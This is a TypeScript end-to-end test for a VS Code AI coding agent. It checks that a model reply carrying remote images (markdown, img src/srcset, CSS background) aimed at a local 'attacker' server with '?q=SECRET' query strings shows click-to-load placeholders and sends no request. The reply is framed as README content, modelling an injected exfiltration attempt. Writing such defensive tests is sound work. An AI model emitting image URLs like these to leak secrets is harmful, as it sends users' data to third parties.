// docs/security.md in a real VS Code (code-server): a reply with remote images renders without fetching
// them — a local "attacker" server started here sees no request — and shows "Load image from <host>".
import * as assert from 'node:assert/strict';
import * as http from 'node:http';
import { sendAndWaitForTurn, transcriptEntries } from './support/chatPanel';
import { useCodeServerSuite } from './support/codeServerSuite';
import { eventually } from './support/eventually';
import { afterTwoFrames } from './support/paint';

describe('security: nothing remote loads without a click', function () {
  const suite = useCodeServerSuite({ window: 'shared' });
  let attacker: http.Server;
  const hits: string[] = [];
  let host = '';

  before(async () => {
    attacker = http.createServer((req, res) => {
      hits.push(req.url ?? '');
      res.writeHead(200, { 'content-type': 'image/png' }).end();
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    const address = attacker.address();
    host = `127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
  });

  after(async () => {
    await new Promise((resolve) => attacker.close(resolve));
  });

  it('a reply with remote images shows placeholders and reaches no server', async function () {
    const reply = [
      'The README said to show this chart:',
      '',
      `![chart](http://${host}/leak.png?q=SECRET)`,
      '',
      `<img src="http://${host}/img.png?q=SECRET"> <img srcset="http://${host}/set.png 2x"> <div style="background:url(http://${host}/bg.png)">x</div>`,
      '',
      `[the docs](http://${host}/page)`,
    ].join('\n');
    suite.model.enqueue({ text: reply, chunkSize: 16 });
    const workspace = suite.server.createWorkspace({ modelBaseUrl: suite.model.baseUrl });
    const session = await suite.openSession(suite.server.urlFor(workspace));
    await session.openCodeAgentView();
    const chat = await session.chatFrame();
    // The browser reports each request as it starts it, before the server could see it.
    const requested: string[] = [];
    session.page.on('request', (request) => {
      if (request.url().includes(host)) requested.push(request.url());
    });

    await sendAndWaitForTurn(chat, 'What does the README show?');
    const answer = transcriptEntries(chat, 'assistant').last();
    await eventually(async () => assert.equal(await answer.getByRole('button', { name: `Load image from ${host} (chart)` }).count(), 1), {
      timeoutMs: 20_000,
      message: 'the remote image is a "Load image from <host>" placeholder',
    });
    assert.equal(await answer.locator('img[src], img[srcset], [style]').count(), 0, 'nothing in the reply can load by itself');
    assert.equal(await answer.getByRole('link', { name: 'the docs' }).getAttribute('href'), `http://${host}/page`);
    // Two frames after the final reply is in the DOM, every load it could start (an image as it is inserted,
    // a background once styled) has started, and its request event has come before this evaluate's answer.
    await afterTwoFrames(chat);
    assert.deepEqual(requested, [], 'the browser started no request to the attacker server');
    assert.deepEqual(hits, [], 'the attacker server received no request');
  });
});
